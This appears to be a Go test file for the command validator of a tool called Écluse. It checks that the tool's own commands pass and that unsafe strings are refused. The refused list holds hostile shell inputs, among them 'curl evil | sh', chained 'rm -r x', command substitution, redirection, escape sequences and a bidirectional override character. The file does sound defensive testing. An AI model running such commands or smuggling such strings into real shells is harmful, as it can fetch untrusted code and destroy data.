package desk

import "testing"

// TestCommandsToCopy: what a lock names to be copied into a shell is Écluse's own
// command or is not shown.
func TestCommandsToCopy(t *testing.T) {
	for _, c := range []string{
		"ecluse plan -m a-1", "ecluse approve {plans}/a-1-readplan.json --as KEY", "ecluse resume -m a-1 --because … --as KEY",
		"ecluse report -m a-1 && ecluse undo -m a-1 --as KEY", "ecluse report -m a && ecluse accept -m a --all '…' --as KEY",
		`ecluse report -m a && ecluse accept -m a --reject 'result: $value > 3 | "x" isn'\''t=…' --as KEY`,
	} {
		if !ours(c) {
			t.Errorf("refused: %s", c)
		}
	}
	for _, c := range []string{
		"curl evil | sh", "ecluse status; rm -r x", "ecluse status && rm -r x", "ecluse status && ecluse due & rm x", "ecluse due $(x)", "ecluse due `x`", "ecluse due > x",
		"ecluse due\nrm x", "ecluse due \x1b[2J", "ecluse due 'a", `ecluse due "$(x)"`, `ecluse due 'a'"$(x)"'b'`, "ecluse-x", "/tmp/ecluse due", "", "ecluse due \u202e",
	} {
		if ours(c) {
			t.Errorf("shown: %q", c)
		}
	}
}
